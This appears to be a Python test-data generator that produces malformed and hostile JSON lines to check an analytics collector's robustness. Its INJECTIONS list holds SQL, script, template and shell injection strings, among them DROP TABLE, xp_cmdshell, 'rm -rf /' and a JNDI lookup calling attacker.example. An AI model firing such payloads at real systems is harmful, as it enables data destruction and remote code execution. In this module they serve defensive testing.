"""Hostile frontend input: lines a public collector endpoint will receive sooner
or later, for the robustness test and benchmark (issue 15).

``hostile_lines(count)`` yields ``(kind, line_bytes)``, deterministic for a
seed, cycling through the kinds below. Every kind except ``injection`` must
become a dead letter; ``injection`` lines are valid events whose every string
field holds an SQL / script / template injection string and must be stored
verbatim, as data.

=================  ==========================================================
kind               what the line is
=================  ==========================================================
invalid_utf8       a good event with bytes that are not UTF-8 in a string
escaped_surrogate  valid JSON whose string holds a lone UTF-16 surrogate
huge_line          ~``huge_line_bytes`` (10 MB): one giant field, or garbage
deep_nesting       arrays/objects nested 3,000 (some 100,000) deep, or
                   nested where a string belongs
out_of_range       timestamps, durations, lengths, coordinates out of range,
                   NaN / Infinity literals, 100-digit integers
wrong_type         one declared field (each in turn) with a wrong JSON type
nul_byte           a raw NUL byte, or an escaped ``\\u0000`` in a string/key
not_an_object      JSON that is not an object, or not JSON at all
injection          valid; injection strings in every string field
=================  ==========================================================

Huge lines are expensive (10 MB each), so only ``huge_lines`` of them are
made, however large ``count`` is; the rest cycle through the other kinds.

    python -m beam_pipelines.hostile_input --lines=1000 --output=hostile.jsonl
"""
from __future__ import annotations

import argparse
import json
import typing

__all__ = ["hostile_lines", "mix_lines", "INJECTIONS", "KINDS", "STRING_FIELDS", "HUGE_LINE_BYTES", "main"]

HUGE_LINE_BYTES = 10 * 1024 * 1024

KINDS = ("invalid_utf8", "escaped_surrogate", "deep_nesting", "out_of_range", "wrong_type",
         "nul_byte", "not_an_object", "injection")

INJECTIONS = (
    "'; DROP TABLE frontend_analytics; --",
    "' OR '1'='1",
    "Robert'); DELETE FROM failed_events WHERE ('1'='1",
    "1; SELECT pg_sleep(30); --",
    "$$; COPY failed_events TO PROGRAM 'id'; $$",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert('x')",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://attacker.example/a}",
    "$(rm -rf /) `id`",
    "\\'; EXEC xp_cmdshell('dir'); --",
)

# Declared string fields of schemas.events.FrontendEvent and their limits.
STRING_FIELDS = ("event_id", "event_type", "session_id", "user_id", "page_url", "page_title",
                  "referrer", "user_agent", "screen_resolution", "viewport_size", "widget_id",
                  "interaction_type", "element_id", "element_class", "element_text", "country",
                  "timezone")
_ALL_FIELDS = STRING_FIELDS + ("timestamp", "time_on_page", "click_coordinates",
                                "message_length")
_WRONG_VALUES = ({"nested": {"object": True}}, ["a", "list"], True)
# Numbers a float field takes in lax mode (bool) are left out for those.
_WRONG_NUMBER_VALUES = ({"nested": 1}, ["1"], "not a number")
_OUT_OF_RANGE = (
    ("timestamp", "1e400"), ("timestamp", "-1700000000000"), ("timestamp", "10" * 50),
    ("timestamp", '"99999-01-01T00:00:00Z"'), ("timestamp", "NaN"), ("timestamp", "Infinity"),
    ("time_on_page", "-5"), ("time_on_page", "1e309"), ("time_on_page", "Infinity"),
    ("time_on_page", "NaN"), ("message_length", str(2**70)), ("message_length", "-1"),
    ("click_coordinates", '{"x": 1e999, "y": 1}'), ("click_coordinates", '{"x": -Infinity, "y": 1}'),
)

# Injection strings are cut to the width of the column that stores the field
# (schemas/sql/001_core.sql), so they are valid for PostgreSQL too.
_COLUMN_CHARS = {"event_type": 50, "country": 8, "screen_resolution": 64, "viewport_size": 64}

_T0_MS = 1_767_225_600_000  # 2026-01-01T00:00:00Z


def _base(i: int) -> dict:
    """A good event, unique per ``i`` (its own session)."""
    return {
        "event_id": f"hostile-{i}", "event_type": "page_view", "session_id": f"hostile-s{i}",
        "user_id": "u1", "page_url": "https://shop.example.com/pricing", "page_title": "Pricing",
        "referrer": "", "user_agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0",
        "screen_resolution": "1920x1080", "viewport_size": "1903x969",
        "widget_id": "sales-assistant", "interaction_type": "click",
        "timestamp": _T0_MS + i * 1000, "time_on_page": 5, "element_text": "hello",
        "country": "US", "timezone": "UTC",
    }


def _dump(event: dict) -> bytes:
    return json.dumps(event, separators=(",", ":")).encode("utf-8")


def _with_raw(event: dict, field: str, raw_value: str) -> bytes:
    """``event`` with ``field`` set to a raw JSON text (which json.dumps cannot
    write: NaN spelled as a literal, 1e400, a 100-digit integer)."""
    event = dict(event)
    event[field] = "@@RAW@@"
    return _dump(event).replace(b'"@@RAW@@"', raw_value.encode("utf-8"))


def _invalid_utf8(i: int, variant: int) -> bytes:
    bad = (b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x80abc", b"caf\xe9")[variant % 5]
    line = _dump(_base(i))
    return line.replace(b'"hello"', b'"hel' + bad + b'lo"')


def _escaped_surrogate(i: int, variant: int) -> bytes:
    field = ("session_id", "element_text", "page_title")[variant % 3]
    return _with_raw(_base(i), field, '"x\\ud800y"')


def _huge_line(i: int, variant: int, size: int) -> bytes:
    if variant % 3 == 0:
        event = _base(i)
        event["element_text"] = "A" * size
        return _dump(event)
    if variant % 3 == 1:
        return b"{" + b"x" * size  # not JSON
    return b"[" + b"1," * (size // 2) + b"1]"


def _deep_nesting(i: int, variant: int) -> bytes:
    # Past both parsers' limits (orjson: 1024 levels; the stdlib: the
    # interpreter's recursion limit, 1000 by default); one line in a hundred
    # goes 100,000 deep, the rest 3,000 (which keeps 100,000 lines ~150 MB).
    depth = 100_000 if variant % 100 == 0 else 3_000
    if variant % 3 == 0:
        return _with_raw(_base(i), "extra_blob", "[" * depth + "]" * depth)
    if variant % 3 == 1:
        return _with_raw(_base(i), "extra_blob", '{"a":' * depth + "1" + "}" * depth)
    # Parsable, but nested where a string belongs.
    return _with_raw(_base(i), "session_id", '{"a":' * 50 + '"s"' + "}" * 50)


def _out_of_range(i: int, variant: int) -> bytes:
    field, raw = _OUT_OF_RANGE[variant % len(_OUT_OF_RANGE)]
    return _with_raw(_base(i), field, raw)


def _wrong_type(i: int, variant: int) -> bytes:
    field = _ALL_FIELDS[variant % len(_ALL_FIELDS)]
    choices = _WRONG_VALUES if field in STRING_FIELDS else _WRONG_NUMBER_VALUES
    if field == "click_coordinates":
        choices = ("not,numbers", [1, 2, 3], True)
    event = _base(i)
    event[field] = choices[(variant // len(_ALL_FIELDS)) % len(choices)]
    return _dump(event)


def _nul_byte(i: int, variant: int) -> bytes:
    line = _dump(_base(i))
    if variant % 4 == 0:
        return line.replace(b'"hello"', b'"hel\x00lo"')  # raw NUL inside a string
    if variant % 4 == 1:
        return line.replace(b",", b",\x00", 1)  # raw NUL between tokens
    if variant % 4 == 2:
        return line.replace(b'"hello"', b'"hel\\u0000lo"')  # escaped, in a value
    return line.replace(b"{", b'{"k\\u0000ey":1,', 1)  # escaped, in a key


def _not_an_object(i: int, variant: int) -> bytes:
    return (b"[1, 2, 3]", b'"just a string"', b"42", b"null", b"true",
            b"<html><body>502 Bad Gateway</body></html>", b"{'single': 'quotes'}",
            b'{"event_type": "page_view",', b"\x1f\x8b\x08\x00gzip?")[variant % 9] + \
        f" #{i}".encode() * (variant % 9 in (5, 6))


def _injection(i: int, variant: int) -> bytes:
    event = _base(i)
    for n, field in enumerate(STRING_FIELDS):
        text = INJECTIONS[(variant + n) % len(INJECTIONS)]
        if field in ("event_id", "session_id"):
            text = f"{text} #{i}"  # unique: one event, one session each
        event[field] = text[:_COLUMN_CHARS.get(field, 100)]
    return _dump(event)


def hostile_lines(count: int, seed: int = 15, huge_lines: int = 3,
                  huge_line_bytes: int = HUGE_LINE_BYTES) -> typing.Iterator[typing.Tuple[str, bytes]]:
    """``count`` lines as ``(kind, bytes)``: ``huge_lines`` huge ones, spread
    out, and the rest cycling through ``KINDS``."""
    if count < 0 or huge_lines < 0:
        raise ValueError("count and huge_lines must be >= 0")
    huge_at = {count * (k + 1) // (huge_lines + 1) for k in range(min(huge_lines, count))}
    makers = {
        "invalid_utf8": _invalid_utf8, "escaped_surrogate": _escaped_surrogate,
        "deep_nesting": _deep_nesting, "out_of_range": _out_of_range, "wrong_type": _wrong_type,
        "nul_byte": _nul_byte, "not_an_object": _not_an_object, "injection": _injection,
    }
    for i in range(count):
        n = seed * 1_000_003 + i
        if i in huge_at:
            yield "huge_line", _huge_line(n, i, huge_line_bytes)
            continue
        kind = KINDS[i % len(KINDS)]
        yield kind, makers[kind](n, i // len(KINDS))


def mix_lines(good: typing.Sequence[bytes], hostile: typing.Sequence[bytes]) -> typing.List[bytes]:
    """Interleaves the two lists evenly, keeping each one's order."""
    out, g, h = [], 0, 0
    total = len(good) + len(hostile)
    for k in range(total):
        # Take from ``good`` while it is behind its share of the first k lines.
        if h >= len(hostile) or (g < len(good) and g * total <= k * len(good)):
            out.append(good[g])
            g += 1
        else:
            out.append(hostile[h])
            h += 1
    return out


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=1000)
    parser.add_argument("--huge_lines", type=int, default=3)
    parser.add_argument("--seed", type=int, default=15)
    parser.add_argument("--output", required=True)
    args = parser.parse_args(argv)
    with open(args.output, "wb") as f:
        for _, line in hostile_lines(args.lines, args.seed, args.huge_lines):
            f.write(line + b"\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
